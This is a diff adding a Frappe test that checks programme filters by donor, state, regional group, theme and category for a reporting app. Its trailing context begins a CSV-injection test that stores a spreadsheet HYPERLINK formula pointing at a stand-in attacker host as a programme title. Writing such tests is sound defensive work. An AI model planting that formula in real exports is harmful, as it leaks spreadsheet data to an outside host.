@@ -208,6 +208,40 @@ class TestPublicOutputsCannotBeTampered(FrappeTestCase):
 		self.assertEqual(gzip.decompress(zipped.get_data()).decode(), pages[-1])
 		self.assertIn("Accept-Encoding", zipped.headers.get("Vary", ""))
 
+	def test_filters_on_what_a_programme_covers_select_as_its_lists_do(self):
+		"""reported_programmes finds the programmes of a donor, state, regional group, theme or
+		category in the child tables: the same programmes, in the same order, as testing each
+		programme's lists."""
+		everything = T.reported_programmes(T.Filters())  # with their lists
+		self.assertTrue(everything)
+		groups = dict(frappe.get_all("TA Beneficiary State", fields=["name", "regional_group"], as_list=True))
+		categories = dict(frappe.get_all("TA Thematic Area", fields=["name", "category"], as_list=True))
+		p = next(p for p in everything if p.donors and p.states and p.themes)
+		cases = [
+			{"donor": p.donors[0]}, {"beneficiary_state": p.states[0]}, {"regional_group": groups.get(p.states[0])},
+			{"thematic_area": p.themes[0]}, {"category": categories.get(p.themes[0])},
+			{"donor": p.donors[0], "thematic_area": p.themes[0], "regional_group": groups.get(p.states[0])},
+			{"donor": p.donors[0].upper() + " (not a donor)"},
+		]
+
+		def covers(q, flt):
+			return (
+				(not flt.get("donor") or flt["donor"] in q.donors)
+				and (not flt.get("beneficiary_state") or flt["beneficiary_state"] in q.states)
+				and (not flt.get("regional_group") or flt["regional_group"] in {groups.get(s) for s in q.states})
+				and (not flt.get("thematic_area") or flt["thematic_area"] in q.themes)
+				and (not flt.get("category") or flt["category"] in {categories.get(t) for t in q.themes})
+			)
+
+		for flt in cases:
+			expected = [q.name for q in everything if covers(q, flt)]
+			got = [q.name for q in T.reported_programmes(T.Filters(**flt), with_experts=False, lists=False)]
+			self.assertEqual(got, expected, flt)
+			if "(not a donor)" in flt.get("donor", ""):
+				self.assertEqual(got, [])
+			else:
+				self.assertIn(p.name, got)
+
 	def test_a_title_that_looks_like_a_formula_is_text_in_the_csv(self):
 		frappe.db.set_value("TA Programme", self.funded, "title_fr", '=HYPERLINK("http://evil.example/?"&A1,"x")')
 		frappe.db.commit()
